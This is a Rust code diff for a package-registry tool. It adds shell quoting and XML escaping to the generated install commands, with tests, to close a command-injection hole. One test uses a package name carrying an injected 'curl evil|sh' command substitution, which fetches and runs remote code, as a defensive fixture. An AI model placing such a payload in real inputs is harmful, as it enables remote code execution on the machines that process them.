@@ -280,8 +280,23 @@ pub fn guide(package_type: PackageType, origin: &str, registry: &str) -> Vec<Sni
     steps
 }
 
+/// `word` as one shell word: as it is when it holds only characters no shell treats specially,
+/// else in single quotes (a name may hold anything printable: `$(...)` must stay text).
+fn sh(word: &str) -> String {
+    let plain = !word.is_empty()
+        && word
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || "@%+=:,./_-".contains(c));
+    if plain {
+        word.to_string()
+    } else {
+        format!("'{}'", word.replace('\'', "'\\''"))
+    }
+}
+
 /// The command (or snippet) that installs `version` of `package` from `registry` (`file`: the
-/// version's first file, which a generic download names).
+/// version's first file, which a generic download names). Names are quoted for the shell, or
+/// escaped for XML.
 pub fn install_line(
     package_type: PackageType,
     origin: &str,
@@ -290,38 +305,66 @@ pub fn install_line(
     file: Option<&str>,
 ) -> String {
     let host = host_of(origin);
+    let (p, v) = (sh(package), sh(version));
     match package_type {
         PackageType::Docker if version.starts_with("sha256:") => {
-            format!("docker pull {host}/{registry}/{package}@{version}")
-        }
-        PackageType::Docker => format!("docker pull {host}/{registry}/{package}:{version}"),
-        PackageType::Npm => format!("npm install {package}@{version}"),
-        PackageType::Pypi => format!("pip install '{package}=={version}'"),
-        PackageType::Maven => {
-            let (group, artifact) = package.split_once(':').unwrap_or(("", package));
             format!(
-                "<dependency>\n  <groupId>{group}</groupId>\n  <artifactId>{artifact}</artifactId>\n  \
-                 <version>{version}</version>\n</dependency>"
+                "docker pull {}",
+                sh(&format!("{host}/{registry}/{package}@{version}"))
             )
         }
-        PackageType::Go => format!("go get {package}@{version}"),
-        PackageType::Cargo => format!("cargo add {package}@{version} --registry {registry}"),
-        PackageType::Helm => {
-            format!("helm install {package} {registry}/{package} --version {version}")
+        PackageType::Docker => {
+            format!(
+                "docker pull {}",
+                sh(&format!("{host}/{registry}/{package}:{version}"))
+            )
         }
-        PackageType::Rubygems => format!("gem install {package} -v {version}"),
-        PackageType::Composer => format!("composer require '{package}:{version}'"),
-        PackageType::Conda => format!("conda install '{package}={version}'"),
-        PackageType::Nuget => format!("dotnet add package {package} --version {version}"),
-        PackageType::Huggingface => {
-            format!("huggingface-cli download {package} --revision {version}")
+        PackageType::Npm => format!("npm install {}", sh(&format!("{package}@{version}"))),
+        PackageType::Pypi => format!("pip install {}", sh(&format!("{package}=={version}"))),
+        PackageType::Maven => {
+            let (group, artifact) = package.split_once(':').unwrap_or(("", package));
+            let xml = arca_protocol::client_config::xml_escape;
+            format!(
+                "<dependency>\n  <groupId>{}</groupId>\n  <artifactId>{}</artifactId>\n  \
+                 <version>{}</version>\n</dependency>",
+                xml(group),
+                xml(artifact),
+                xml(version)
+            )
         }
-        PackageType::Debian => format!("sudo apt install {package}={version}"),
-        PackageType::Rpm => format!("sudo dnf install {package}-{version}"),
-        PackageType::Generic => format!(
-            "curl -fO -H \"Authorization: Bearer $ARCA_TOKEN\" {origin}/generic/{registry}/{package}/{version}/{}",
-            file.unwrap_or("<file>")
+        PackageType::Go => format!("go get {}", sh(&format!("{package}@{version}"))),
+        PackageType::Cargo => format!(
+            "cargo add {} --registry {registry}",
+            sh(&format!("{package}@{version}"))
         ),
+        PackageType::Helm => {
+            format!(
+                "helm install {p} {} --version {v}",
+                sh(&format!("{registry}/{package}"))
+            )
+        }
+        PackageType::Rubygems => format!("gem install {p} -v {v}"),
+        PackageType::Composer => {
+            format!("composer require {}", sh(&format!("{package}:{version}")))
+        }
+        PackageType::Conda => format!("conda install {}", sh(&format!("{package}={version}"))),
+        PackageType::Nuget => format!("dotnet add package {p} --version {v}"),
+        PackageType::Huggingface => format!("huggingface-cli download {p} --revision {v}"),
+        PackageType::Debian => format!("sudo apt install {}", sh(&format!("{package}={version}"))),
+        PackageType::Rpm => format!("sudo dnf install {}", sh(&format!("{package}-{version}"))),
+        PackageType::Generic => {
+            let path = super::encoded_path(&[
+                "generic",
+                registry,
+                package,
+                version,
+                file.unwrap_or("FILE"),
+            ]);
+            format!(
+                "curl -fO -H \"Authorization: Bearer $ARCA_TOKEN\" {}",
+                sh(&format!("{origin}{path}"))
+            )
+        }
     }
 }
 
@@ -363,7 +406,22 @@ mod tests {
         );
         assert_eq!(
             install_line(PackageType::Pypi, origin, "py", ("requests", "2.0"), None),
-            "pip install 'requests==2.0'"
+            "pip install requests==2.0"
+        );
+        assert_eq!(
+            install_line(
+                PackageType::Generic,
+                origin,
+                "g",
+                ("x$(curl evil|sh)", "1"),
+                Some("a b")
+            ),
+            "curl -fO -H \"Authorization: Bearer $ARCA_TOKEN\" \
+             http://127.0.0.1:7070/generic/g/x%24%28curl%20evil%7Csh%29/1/a%20b"
+        );
+        assert_eq!(
+            install_line(PackageType::Npm, origin, "n", ("it's", "1.0.0"), None),
+            "npm install 'it'\\''s@1.0.0'"
         );
         assert!(
             install_line(
